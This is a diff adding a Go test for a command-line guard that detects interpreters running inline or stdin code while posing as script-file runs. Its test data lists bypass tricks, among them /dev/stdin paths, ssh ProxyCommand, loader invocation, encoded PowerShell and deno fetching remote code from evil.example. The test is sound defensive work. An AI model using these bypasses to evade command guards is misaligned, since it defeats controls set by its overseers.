@@ -1,0 +1,34 @@
+package reach_test
+
+import (
+	"testing"
+
+	"github.com/catalogd/catalogd/decision/trust"
+	"github.com/catalogd/catalogd/internal/reach"
+)
+
+// TestWaysAroundTheInterpreterGuard are command lines that run code which stands in their arguments, or comes on standard
+// input, while they look like an interpreter with a script file.
+func TestWaysAroundTheInterpreterGuard(t *testing.T) {
+	t.Parallel()
+	for _, line := range [][]string{
+		{"sh", "+c", "x"}, {"bash", "-u", "+ec", "x"}, {"rbash", "-c", "x"},
+		{"sh", "/dev/stdin"}, {"sh", "//dev/./stdin"}, {"sh", "/dev/../dev/stdin"}, {"sh", "../../dev/stdin"},
+		{"python3", "/proc/self/fd/0"}, {"python3", "-u", "/dev/fd/0"}, {"python3", "-m", "-"},
+		{"deno", "run", "data:text/javascript,x"}, {"deno", "run", "https://evil.example/x.ts"}, {"node", "inspect"},
+		{"npx", "-yc", "x"}, {"npx", "--cal=x"}, {"npm", "exec", "--call", "x"}, {"pnpm", "exec", "x"}, {"uv", "run", "x"},
+		{"/lib64/ld-linux-x86-64.so.2", "/bin/sh"}, {"taskset", "1", "sh"}, {"ssh", "-oProxyCommand=x", "h"}, {"node", ""}, {"pwsh", "-e", "ZQBjAGgAbwA="},
+	} {
+		if why := reach.InlineCode(trust.Command{Declared: line[0], Path: "/x", Args: line[1:]}); why == "" {
+			t.Errorf("%q passes for a script file", line)
+		}
+	}
+	for _, line := range [][]string{
+		{"sh", "-e", "x.sh"}, {"node", "/home/dev/server.js"}, {"node", "fd/server.js"}, {"python3", "-m", "server"},
+		{"deno", "run", "./x.ts"}, {"npx", "--no-install", "x"}, {"npm", "run", "x"}, {"uv", "version"}, {"date"},
+	} {
+		if why := reach.InlineCode(trust.Command{Declared: line[0], Path: "/x", Args: line[1:]}); why != "" {
+			t.Errorf("%q is refused: %s", line, why)
+		}
+	}
+}
